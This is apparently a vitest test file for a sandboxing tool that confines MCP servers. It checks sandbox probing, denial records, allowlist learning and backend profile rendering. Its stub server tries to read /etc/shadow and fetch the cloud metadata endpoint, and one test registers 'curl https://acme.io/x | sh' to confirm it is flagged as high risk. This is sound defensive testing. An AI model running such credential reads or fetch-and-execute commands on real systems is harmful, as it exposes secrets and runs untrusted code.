import { chmodSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { dirname, join } from 'node:path'
import { afterEach, beforeEach, describe, expect, test } from 'vitest'
import { openRecorder } from '../../audit/audit.ts'
import type { SecurityEvent } from '../../kernel/event.ts'
import { openStore } from '../../store/store.ts'
import { createPlace, type Place } from '../testing/command-line.ts'

/** A server that says hello, and tries a file, a folder and two hosts. */
const SERVER = `import { readFileSync, writeFileSync } from 'node:fs'
const here = process.argv[2]
for (const act of [() => readFileSync(here + '/asked.txt'), () => readFileSync('/etc/shadow')])
  try { act() } catch {}
for (const url of ['https://api.acme.io/', 'http://169.254.169.254/latest']) fetch(url).catch(() => {})
let rest = ''
process.stdin.on('data', (data) => {
  rest += data
  for (let end = rest.indexOf('\\n'); end >= 0; end = rest.indexOf('\\n')) {
    const { id, method } = JSON.parse(rest.slice(0, end))
    rest = rest.slice(end + 1)
    const result = { protocolVersion: '2025-06-18', capabilities: {}, serverInfo: { name: 'x', version: '1' } }
    const answer = method === 'initialize' ? { result } : { error: { code: -32601, message: 'no' } }
    if (id !== undefined) console.log(JSON.stringify({ jsonrpc: '2.0', id, ...answer }))
  }
})
`

let place: Place
let outside: string

beforeEach(() => {
  place = createPlace()
  outside = mkdtempSync(join(dirname(tmpdir()) === '/' ? '/var/tmp' : tmpdir(), 'bailiwick-seen-'))
  mkdirSync(join(outside, 'code'))
  writeFileSync(join(outside, 'code', 'server.mjs'), SERVER)
  mkdirSync(join(outside, 'data'))
  writeFileSync(join(outside, 'data', 'asked.txt'), 'x')
  chmodSync(outside, 0o755)
})
afterEach(() => rmSync(outside, { recursive: true, force: true }))

function configure(sandbox = '{ network: { mode: allowlist, allow: [{ host: other.acme.io }] } }') {
  return place.file(
    'bailiwick.yaml',
    `# ours
dataDir: data
servers:
  mail:
    transport: stdio
    command: node
    args: [${outside}/code/server.mjs, ${outside}/data, "--title=x y"]
    env: { TOKEN: secret://env/TOKEN }
    sandbox: ${sandbox} # contained
  far: { transport: http, url: 'https://acme.io/mcp' }
`,
  )
}

async function record(events: readonly SecurityEvent[]): Promise<void> {
  const dataDir = join(place.root, 'data')
  mkdirSync(dataDir, { recursive: true, mode: 0o700 })
  const store = await openStore({
    kind: 'sqlite',
    path: join(dataDir, 'bailiwick.db'),
    durability: 'process',
  })
  let id = 0
  const recorder = await openRecorder({
    store,
    headFile: join(dataDir, 'records.head'),
    clock: () => Date.parse('2026-11-22T10:00:00Z') + id,
    randomId: () => `event-${id++}`,
    excerpt: { maxBytes: 512, redact: [] },
    input: { maxBytes: 512, redact: [] },
    onHeadError: () => {},
  })
  for (const event of events) await recorder.witness(event)
  await recorder.close()
  await store.close()
}

function denied(target: string, detail: SecurityEvent['detail']): SecurityEvent {
  return { event: 'sandbox.denied', outcome: 'refused', target, ...(detail && { detail }) }
}

const HOST = { layer: 'net', op: 'connect', target: 'api.acme.io:443', reason: 'host-not-listed' }

describe('sandbox check', () => {
  test('proves the machine, and says what holds by what', async () => {
    configure()
    const { code, stdout, stderr } = await place.run(['sandbox', 'check', '--json'])
    expect({ code, stderr }).toEqual({ code: 0, stderr: '' })
    const found = JSON.parse(stdout)
    expect(found).toMatchObject({ ok: true, cached: false, problems: [] })
    expect(found.probes.every(({ held }: { held: boolean }) => held)).toBe(true)
    expect(found.backends.map(({ backend }: { backend: string }) => backend)).toEqual([
      ...['bwrap', 'container', 'seatbelt', 'kubernetes'],
    ])
    const text = await place.run(['sandbox', 'check'])
    expect(text.stdout).toMatch(/^sandbox {3}holds {2}23 of 23 attempts .* proven since this start/)
    expect(text.stdout).toMatch(/^network {6}hard/m)
  })
})

describe('sandbox show', () => {
  test('tells everything that a server is started with, and no value of a variable', async () => {
    configure()
    const env = { TOKEN: 'value-of-the-token' }
    const { code, stdout } = await place.run(['sandbox', 'show', 'mail', '--json'], { env })
    expect(code).toBe(0)
    const shown = JSON.parse(stdout)
    expect(shown).toMatchObject({ server: 'mail', env: ['TOKEN'], package: null })
    expect(shown.command.slice(1)).toEqual([
      ...[`${outside}/code/server.mjs`, `${outside}/data`, '--title=x y'],
    ])
    expect(shown.tricked).toContain('`other.acme.io:443 (tls)`, and nowhere else')
    const text = await place.run(['sandbox', 'show', 'mail'], { env })
    expect(text.stdout).toContain('"--title=x y"')
    expect(text.stdout).toMatch(/^identity {5}hard/m)
    expect(text.stdout + stdout).not.toContain('value-of-the-token')
  })

  test('a profile that is refused says why', async () => {
    configure(`{ fs: { ro: ['/'] } }`)
    const { code, stderr } = await place.run(['sandbox', 'show', 'mail'])
    expect([code, /fix: /.test(stderr)]).toEqual([1, true])
  })

  test.each([
    ['far', 'is a remote server'],
    ['other', 'there is no server'],
  ])('%s: %s', async (name, why) => {
    configure()
    const { code, stderr } = await place.run(['sandbox', 'show', name])
    expect([code, stderr.includes(why)]).toEqual([2, true])
  })
})

describe('sandbox denials', () => {
  test('are those on record, newest first, with the setting that would allow it', async () => {
    configure()
    const suggestion = 'servers.mail.sandbox.network.allow: { host: api.acme.io, ports: [443] }'
    await record([
      denied('mail', { ...HOST, count: 10, suggestion }),
      denied('other', { ...HOST, count: 1 }),
      { event: 'sandbox.ended', outcome: 'refused', target: 'mail', detail: { reason: 'memory' } },
    ])
    const all = await place.run(['sandbox', 'denials', '--json'])
    expect(all.code).toBe(1)
    expect(JSON.parse(all.stdout).denials).toMatchObject([
      { server: 'mail', layer: 'ended', reason: 'memory', suggestion: null },
      { server: 'other', ...HOST, count: 1 },
      { server: 'mail', ...HOST, count: 10, suggestion },
    ])
    const some = await place.run(['sandbox', 'denials', '--server', 'other'])
    expect(some.stdout.trim().split('\n')).toHaveLength(2)
    const later = await place.run(['sandbox', 'denials', '--since', '2027-01-01', '--json'])
    expect([later.code, JSON.parse(later.stdout)]).toEqual([0, { denials: [] }])
  })
})

describe('sandbox learn', () => {
  test('proposes what was refused on record, and writes it when told to', async () => {
    const file = configure()
    await record([
      denied('mail', { ...HOST, count: 3 }),
      denied('mail', { ...HOST, target: '169.254.169.254:80', count: 3 }),
    ])
    const { code, stdout } = await place.run(['sandbox', 'learn', 'mail'])
    expect(code).toBe(0)
    expect(stdout).toContain(
      '- { host: "api.acme.io", ports: [443], proto: tls } # once, first connect',
    )
    expect(stdout).toMatch(/# {3}169\.254\.169\.254:80 {2}it hands out credentials/)
    const before = readFileSync(file, 'utf8')
    const silent = await place.run(['sandbox', 'learn', 'mail', '--write'])
    expect([silent.code, readFileSync(file, 'utf8')]).toEqual([2, before])
    const written = await place.run(['sandbox', 'learn', 'mail', '--write', '--yes'])
    expect(written.code).toBe(0)
    const after = readFileSync(file, 'utf8')
    for (const kept of ['# ours', '# contained', 'other.acme.io', 'api.acme.io'])
      expect(after).toContain(kept)
    expect((await place.run(['config', 'check'])).stdout).not.toContain('sandbox')
    const again = await place.run(['sandbox', 'show', 'mail', '--json'])
    expect(JSON.parse(again.stdout).profile.network.allow).toHaveLength(2)
  })

  test.each(['{}', '{ network: { mode: allowlist, allow: [{ host: other.acme.io }] } }'])(
    'watches the server in its sandbox (%s), and lets it do nothing more',
    async (sandbox) => {
      configure(sandbox)
      const run = ['sandbox', 'learn', 'mail', '--seconds', '1', '--json']
      const { code, stdout, stderr } = await place.run(run, { env: { TOKEN: 'x' } })
      expect(code, stderr).toBe(0)
      expect(stderr).not.toContain('it did not answer')
      const { lines, left } = JSON.parse(stdout)
      expect(lines).toContainEqual(
        expect.objectContaining({
          key: 'network.allow',
          value: expect.objectContaining({ host: 'api.acme.io' }),
        }),
      )
      expect(JSON.stringify(lines)).not.toMatch(/169\.254|shadow/)
      if (stderr.includes('`strace`') && !stderr.includes('without'))
        expect(left).toContainEqual(expect.objectContaining({ what: '/etc/shadow', why: 'system' }))
    },
  )
})

describe('sandbox render', () => {
  test.each([
    ['container', '"--read-only"'],
    ['kubernetes', 'kind: Pod'],
    ['seatbelt', '(deny default)'],
  ])('%s has %s', async (backend, part) => {
    configure()
    const { code, stdout } = await place.run(['sandbox', 'render', 'mail', '--backend', backend])
    expect(code).toBe(0)
    expect(stdout).toContain(part)
  })
})

test('whoever adds a program reads what will be started, and what stands out in it', async () => {
  const { code, stdout, stderr } = await place.run([
    ...['servers', 'add', 'web', '--', 'sh', '-c', 'curl https://acme.io/x | sh'],
  ])
  expect([code, stdout.startsWith('added web to ')]).toEqual([0, true])
  expect(stderr).toContain('start: sh -c "curl https://acme.io/x | sh"')
  expect(stderr).toMatch(/^ {2}high {2}/m)
})
